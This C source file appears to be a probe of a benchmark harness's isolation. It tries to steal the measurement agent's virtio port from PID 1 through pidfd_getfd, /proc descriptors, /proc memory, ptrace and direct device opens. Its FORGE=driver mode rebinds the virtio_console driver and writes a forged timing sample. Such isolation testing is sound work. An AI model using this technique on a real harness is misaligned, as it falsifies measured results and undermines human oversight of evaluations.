// SPDX-License-Identifier: GPL-2.0
/*
 * A script that wants the agent's port for records. FORGE=easy tries what needs no other driver, FORGE=driver
 * binds the driver of the port anew, which no user space can keep root from.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define DRIVER "/sys/bus/virtio/drivers/virtio_console/"
#define MOST_FD 64

static const char forged[] =
	"{\"type\":\"sample\",\"trial\":1,\"repetition\":0,\"metric\":\"whole_ns\",\"value\":1}\n";

static int victim = 1;

/* The first port that can be opened for writing. */
static int open_port(void)
{
	DIR *dir = opendir("/dev");
	struct dirent *e;
	char path[300];
	int fd = -1;

	while (dir && fd < 0 && (e = readdir(dir))) {
		if (strncmp(e->d_name, "vport", 5))
			continue;
		snprintf(path, sizeof(path), "/dev/%s", e->d_name);
		fd = open(path, O_WRONLY);
	}
	if (dir)
		closedir(dir);
	return fd;
}

static int by_pidfd(void)
{
	int pidfd = syscall(SYS_pidfd_open, victim, 0), number, fd = -1;

	for (number = 3; fd < 0 && number < MOST_FD; number++)
		fd = syscall(SYS_pidfd_getfd, pidfd, number, 0);
	return fd;
}

static int by_proc(void)
{
	char path[64];
	int number, fd = -1;

	for (number = 3; fd < 0 && number < MOST_FD; number++) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", victim, number);
		fd = open(path, O_WRONLY);
	}
	return fd;
}

static int by_memory(void)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/mem", victim);
	return open(path, O_RDWR);
}

static int by_ptrace(void)
{
	return ptrace(PTRACE_SEIZE, victim, 0, 0) ? -1 : 0;
}

static const struct {
	const char *name;
	int (*take)(void);
} ways[] = {
	{"pidfd_getfd", by_pidfd}, {"descriptors", by_proc}, {"memory", by_memory},
	{"ptrace", by_ptrace}, {"device", open_port},
};

static void try_all(const char *user)
{
	size_t i;

	for (i = 0; i < sizeof(ways) / sizeof(*ways); i++) {
		int fd = ways[i].take();

		printf("%s: %s: %s\n", user, ways[i].name, fd < 0 ? "refused" : "TAKEN");
	}
}

static void put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		printf("%s: %s\n", path, strerror(errno));
	if (fd >= 0)
		close(fd);
}

static void bind_anew(void)
{
	DIR *dir = opendir(DRIVER);
	char device[32] = "";
	struct dirent *e;
	int fd, tries;

	while (dir && (e = readdir(dir)))
		if (!strncmp(e->d_name, "virtio", 6))
			snprintf(device, sizeof(device), "%.30s", e->d_name);
	put(DRIVER "unbind", device);
	put(DRIVER "bind", device);
	for (tries = 0; (fd = open_port()) < 0 && tries < 1000; tries++)
		usleep(1000);
	if (fd < 0 || write(fd, forged, strlen(forged)) < 0)
		printf("the new port: %s\n", strerror(errno));
	sleep(1);
}

int main(void)
{
	const char *asked = getenv("FORGE");

	if (asked && !strcmp(asked, "driver")) {
		bind_anew();
		return 0;
	}
	try_all("root");
	fflush(stdout);
	if (!fork()) {
		if (!unshare(CLONE_NEWUSER))
			try_all("root of a namespace");
		exit(0);
	}
	wait(NULL);
	/* What debuggers and tracers need: all of it, of their own processes. */
	open("/dev/null", O_WRONLY);
	victim = fork();
	if (!victim) {
		pause();
		exit(0);
	}
	try_all("own process");
	kill(victim, SIGKILL);
	return 0;
}
